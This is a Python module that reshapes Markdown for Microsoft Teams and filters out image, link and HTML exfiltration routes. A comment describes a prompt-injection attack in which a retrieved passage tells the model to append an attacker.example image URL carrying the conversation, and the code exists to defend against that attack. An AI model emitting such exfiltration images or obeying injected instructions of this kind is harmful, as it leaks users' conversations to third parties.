"""Text as Teams shows it: plain citation abstracts, and Markdown reshaped where Teams renders it badly.

What a backend writes is Markdown for any chat client; Teams has its own quirks, fixed here and only here:
citation abstracts are shown as plain text, `[n]` markers inside Markdown list items do not become
interactive citations, and `<word>` placeholders arrive as `&lt;word&gt;`. Code is sent as written: an
earlier version broke long code lines to fit the personal chat pane, which made copied JSON invalid and
turned a shell comment's continuation into a command (seen in Agents Playground); a code block that is
wider than the pane scrolls, which is better than code that is wrong.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import quote, urlsplit

# The Markdown is stripped with a few regular expressions rather than a parser: excerpts are short snippets
# whose Markdown is often broken (cut mid-emphasis), which a parser would keep as literal asterisks.
_FENCE_MARK = re.compile(r"(?:```|~~~)[\w+#.-]*(?=\s|$)")  # with its language tag, wherever a cut left it
_LINE_MARKUP = re.compile(r"^[ \t]*(?:#{1,6}[ \t]+|>[ \t]?|[-*+•][ \t]+|\d{1,3}[.)][ \t]+)+", re.M)
# `[^\][]` and `[^()]` stop at the next bracket: `[^\]]*` ran on to the end of the text from every `[` of a
# text without `]`, which was quadratic.
_IMAGE = re.compile(r"!\[([^\][]*)\]\([^()]*\)")
_LINK = re.compile(r"\[([^\][]+)\]\([^()]*\)")
_STRONG = re.compile(r"\*{2,}|_{2,}(?=\S|$)|(?<=\S)_{2,}")
_EMPHASIS = re.compile(r"(?<![\w*])\*(?=\S)|(?<=\S)\*(?![\w*])|(?<![\w])_(?=\S)|(?<=\S)_(?!\w)")
_CODE_TICKS = re.compile(r"`+")
_SPACES = re.compile(r"\s+")
_SENTENCE_END = re.compile(r"(?<!\be\.g)(?<!\bi\.e)(?<!\betc)(?<!\bvs)(?<!\bcf)[.!?…](?=\s)")  # not "e.g. "

# As CommonMark reads fences (what Teams renders): at most three spaces before the opening fence, no backtick
# in a backtick fence's info string, and any run of at least three of the same character closes it. Reading a
# block as code that Teams reads as text would let the text in it skip no_exfiltration.
_FENCE_OPEN = re.compile(r" {0,3}(```|~~~)")
_FENCE_CLOSE = re.compile(r"[ \t]*(`{3,}|~{3,})[ \t]*")
_BULLET = re.compile(r"^([ \t]*)[-*+][ \t]+(?=\S)", re.M)
_NUMBERED = re.compile(r"^([ \t]*)(\d{1,3})[.)][ \t]+(?=\S)", re.M)
_PLACEHOLDER = re.compile(r"<([A-Za-z][\w-]*(?: [\w-]+)*)>")  # <column>, <label column>
# Tags Teams renders as HTML; any other <word> is a placeholder such as `<column>`.
_HTML_TAGS = frozenset("a at b blockquote br code em h1 h2 h3 hr i li ol p pre s strike strong sub sup u ul".split())


def plain_text(markdown: str) -> str:
    """Return `markdown` as one line of plain text: no emphasis, code ticks, fences, headings or list markers;
    links keep their text. Broken Markdown (emphasis cut in half) loses its stray markers too."""
    text = _FENCE_MARK.sub(" ", markdown)
    text = _LINE_MARKUP.sub("", text)
    text = _LINK.sub(r"\1", _IMAGE.sub(r"\1", text))
    text = _EMPHASIS.sub("", _STRONG.sub("", text))
    text = _CODE_TICKS.sub("", text)
    return _SPACES.sub(" ", text).strip()


def shorten(text: str, limit: int) -> str:
    """Return `text` (plain) cut to at most `limit` characters: at a sentence end when one falls in the second
    half, else at a word boundary with "…"."""
    if len(text) <= limit:
        return text
    ends = [
        m.end()
        for m in _SENTENCE_END.finditer(text, 0, limit)
        if text.count("(", 0, m.end()) <= text.count(")", 0, m.end())
    ]  # never inside parentheses
    if ends and ends[-1] >= limit // 2:
        return text[: ends[-1]]
    cut = text[: limit - 1]
    space = cut.rfind(" ")
    if space >= limit // 2:
        cut = cut[:space]
    return cut.rstrip(" ,;:-–—(") + "…"


def abstract(markdown: str, limit: int) -> str:
    """Return the plain-text abstract of `markdown` in at most `limit` characters (see `shorten`)."""
    return shorten(plain_text(markdown), limit)


def safe_placeholders(text: str) -> str:
    """Return `text` with `<word>` placeholders written ‹word›: Teams shows them as `&lt;word&gt;` otherwise.
    Real tags Teams renders (`<at>`, `<b>`, `<br>`…) are left alone."""
    return _PLACEHOLDER.sub(
        lambda m: m.group(0) if m.group(1).split()[0].lower() in _HTML_TAGS else f"‹{m.group(1)}›", text
    )


def fenced_blocks(text: str, *, indented: bool = True) -> list[tuple[int, int, int, int]]:
    """Return the fenced code blocks of `text` as (start, end, code start, code end), left to right: a line
    opening with ``` or ~~~ (after spaces when `indented`) up to the next line holding only the same fence.

    One pass over the lines (a regex with a lazy body restarted at every unclosed fence was quadratic)."""
    lines, position = [], 0
    for line in text.split("\n"):
        lines.append((position, line + "\n"))
        position += len(line) + 1
    lines[-1] = (lines[-1][0], lines[-1][1][:-1])  # the last line has no line end
    closing: list[str | None] = []  # the fence a line closes, if it holds only a fence
    for _, line in lines:
        bare = line.rstrip("\n")
        run = _FENCE_CLOSE.fullmatch(bare) if indented else _FENCE_CLOSE.fullmatch(bare.rstrip(" \t"))
        closing.append(run.group(1)[:3] if run and (indented or not bare[:1].isspace()) else None)
    next_close: dict[str, list[int | None]] = {}
    for fence in ("```", "~~~"):
        found: int | None = None
        after: list[int | None] = [None] * (len(lines) + 1)
        for i in range(len(lines) - 1, -1, -1):
            after[i + 1] = found
            if closing[i] == fence:
                found = i
        after[0] = found
        next_close[fence] = after
    blocks, i = [], 0
    while i < len(lines):
        start, line = lines[i]
        opened = _FENCE_OPEN.match(line) if indented else None
        fence = opened.group(1) if opened else line[:3] if line[:3] in ("```", "~~~") else None
        if fence == "```" and "`" in line[line.index("```") :].lstrip("`"):
            fence = None  # a backtick in the info string: not a fence
        close = next_close[fence][i + 1] if fence and line.endswith("\n") else None
        if close is None:
            i += 1
            continue
        close_start, close_line = lines[close]
        blocks.append((start, close_start + len(close_line.rstrip("\n")), start + len(line), close_start))
        i = close + 1
    return blocks


def _outside_code(text: str, change) -> str:
    """Return `text` with `change` applied to the parts outside fenced code blocks."""
    parts, position = [], 0
    for start, end, _, _ in fenced_blocks(text):
        parts += [change(text[position:start]), text[start:end]]
        position = end
    return "".join([*parts, change(text[position:])])


def _flat_lists(text: str) -> str:
    # Teams turns `[n]` into an interactive citation only outside list items: items become paragraphs
    # that start with a bullet (or a bold number), which look the same and keep every marker interactive.
    text = _BULLET.sub(r"\1• ", text)
    text = _NUMBERED.sub(r"\1**\2.** ", text)
    return re.sub(r"(?<!\n)\n(?=[ \t]*(?:• |\*\*\d{1,3}\.\*\* ))", "\n\n", text)


# Exfiltration through what Teams renders: a retrieved passage can tell the model to append
# `![s](https://attacker.example/p.png?d=<the conversation>)`, which Teams fetches as soon as it shows it, or a
# disguised link. Images in model or source text are dropped unless their host is allowed
# (CONTENT_ALLOWED_HOSTS, empty by default); links to other hosts become their text followed by the URL, in
# plain sight; HTML <img> and <a> tags are shown as text. Set once at start-up by the worker (set_content_hosts).
_content_hosts: tuple[frozenset[str], tuple[str, ...]] = (frozenset(), ())
# Possessive `*+`/`++`: `\s*` before the URL and `\s+` after it could otherwise split one run of spaces in every
# way, which made `[x](` followed by 40,000 spaces cost 9 s.
_MD_IMAGE = re.compile(r"!\[([^\][]*)\]\(\s*+<?([^()\s<>]*+)>?(?:\s++\"[^\"<>()]*+\")?\s*+\)")
_IMAGE_START = re.compile(r"(!\[[^\][]*\]\(\s*+<?[^()\s<>]*+>?(?:\s++\"[^\"<>()]*+\")?\s*+\))|!\[")
_MD_LINK = re.compile(r"\[([^\][]*)\]\(\s*+<?([^()\s<>]*+)>?(?:\s++\"[^\"<>()]*+\")?\s*+\)")
# [ref]: url "title", wherever CommonMark reads a definition: after quote and list markers, with escaped brackets
# in the label, its URL on the next line, in angle brackets, scheme-less or protocol-relative (`//host/`), and
# nothing but a title after it ("[Note]: see below" is text). Groups: the container prefix, the definition, its
# target, the rest of the line. Possessive: linear.
_MD_REFERENCE = re.compile(
    r"^((?:[ \t]*+(?:>|[-*+]|\d{1,9}[.)]))*+[ \t]*+)"
    r"(\[(?:[^\][\\]|\\.){1,999}+\]:[ \t]*+(?:\n[ \t>]*+)?(<[^<>\n]*+>|[^\s<>]++))((?:[ \t]++[\x22\x27(].*+)?[ \t]*+)$",
    re.M,
)
# <scheme:…> and <name@host> autolinks (CommonMark's forms), live links whatever their host.
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}+:[^\s<>]*+|[\w.!#$%&'*+/=?^`{|}~-]++@[A-Za-z0-9][\w.-]*+)>")
# Any link or image target the two patterns above leave (alt text with brackets `![[x]](…)`, a title in
# parentheses or single quotes, parentheses in the URL: all valid CommonMark): `](` to a host not allowed gets
# its `(` escaped, so nothing the patterns miss is fetched or disguised. Each `](` is judged by the scheme and
# host that follow it (a bounded look-ahead: linear, and no allowed URL can swallow the next target).
_MD_TARGET = re.compile(r"\]\((?=\s*+<?([A-Za-z][\w+.-]{0,20}+:(?://)?[^\s<>/?#\\]{0,300}+)?)")
_HTML_MEDIA = re.compile(r"<(?=(?:img|a|image|picture|source|video|audio|iframe|object|embed|svg|link)\b)", re.I)
# Any other tag with an attribute (`<form action=…>`, `<base href=…>`, `<meta content="0;url=…">`,
# `<table background=…>`, `<input type=image src=…>`, `style="background:url(…)"`): a URL can hide in any of
# them, and no reply needs one. `&lt;` shows the same character. Possessive: linear.
_HTML_WITH_ATTRIBUTES = re.compile(r"<(?=[A-Za-z][A-Za-z0-9-]*+[\s/]++[^<>=]*+=)")
# CommonMark ends a line at \r\n, \n or a lone \r; the patterns here read `\n` only (`^`/`$` with re.M), so a
# reference definition on a \r line stayed live.
_LINE_END = re.compile(r"\r\n?")
_URL_SAFE = "/:?#&=+,;@~*$%'-._"  # everything else, ( ) [ ] < > ! " ` and spaces included, is percent-encoded


def set_content_hosts(hosts: Iterable[str]) -> None:
    """Set the hosts whose images model and source text may show and whose links stay links: exact names or
    `*.` wildcards (CONTENT_ALLOWED_HOSTS). Returns None."""
    entries = [h.strip().lower() for h in hosts if h.strip()]
    global _content_hosts
    _content_hosts = (
        frozenset(h for h in entries if not h.startswith("*.")),
        tuple(h[1:] for h in entries if h.startswith("*.")),
    )


def host_allowed(url: str) -> bool:
    """Return True when `url` is http(s) to a host in CONTENT_ALLOWED_HOSTS (never for other schemes)."""
    try:
        parts = urlsplit(url.strip())
        host = (parts.hostname or "").lower()
    except ValueError:
        return False
    exact, suffixes = _content_hosts
    if parts.scheme not in ("http", "https") or not host or parts.username or parts.password:
        return False
    return host in exact or any(host.endswith(s) and len(host) > len(s) for s in suffixes)


def safe_url(url: str) -> str:
    """Return `url` percent-encoded so that it cannot end a Markdown link or start another (`)![x](…)`), or ''
    when it is not an http(s) URL with a host."""
    url = url.strip()
    try:
        parts = urlsplit(url)
    except ValueError:
        return ""
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname or len(url) > 2048:
        return ""
    return quote(url, safe=_URL_SAFE)


def escape_link_text(text: str) -> str:
    """Return `text` safe inside `[...]` of a Markdown link: brackets and backslashes escaped, on one line."""
    return re.sub(r"([\\\[\]])", r"\\\1", " ".join(text.split()))


def no_exfiltration(markdown: str) -> str:
    """Return `markdown` without images from hosts not allowed, with links to hosts not allowed written as
    `text (URL)` and with HTML image and link tags shown as text. Linear in the text's length."""

    def image(match: re.Match[str]) -> str:
        return match.group(0) if host_allowed(match.group(2)) else ""

    def link(match: re.Match[str]) -> str:
        text, url = match.group(1), match.group(2)
        if host_allowed(url):
            return match.group(0)
        shown = url.replace("`", "%60")
        return f"{text} (`{shown}`)" if text.strip() and text.strip() != url else f"`{shown}`"

    def reference(match: re.Match[str]) -> str:
        # Written as code after its container markers: a line that starts with a backtick defines nothing.
        prefix, definition, target, rest = match.groups()
        if host_allowed(target.strip("<>")):
            return match.group(0)
        return f"{prefix}`{(definition + rest).strip().replace('`', '%60')}`"

    def autolink(match: re.Match[str]) -> str:
        return match.group(0) if host_allowed(match.group(1)) else f"`{match.group(1).replace('`', '%60')}`"

    text = _MD_IMAGE.sub(image, _LINE_END.sub("\n", markdown))
    # CommonMark has image forms the pattern above does not read (parentheses or a quoted title in the URL,
    # brackets in the alt text, references defined in a quote or over two lines): every other `![` is
    # escaped, so that it can start no image at all.
    text = _IMAGE_START.sub(lambda m: m.group(0) if m.group(1) else "!\\[", text)
    text = _MD_LINK.sub(link, text)
    text = _AUTOLINK.sub(autolink, text)
    text = _MD_REFERENCE.sub(reference, text)
    text = _MD_TARGET.sub(lambda m: m.group(0) if m.group(1) and host_allowed(m.group(1)) else "]\\(", text)
    return _HTML_WITH_ATTRIBUTES.sub("&lt;", _HTML_MEDIA.sub("&lt;", text))


def teams_message_text(markdown: str) -> str:
    """Return Markdown for a Teams message: list items as bulleted paragraphs (so every [n] marker is an
    interactive citation), `<word>` placeholders made safe and nothing that exfiltrates (`no_exfiltration`),
    outside code blocks; code as written."""
    markdown = _LINE_END.sub("\n", markdown)  # fences and list items are found on \n lines
    return _outside_code(markdown, lambda part: safe_placeholders(_flat_lists(no_exfiltration(part))))
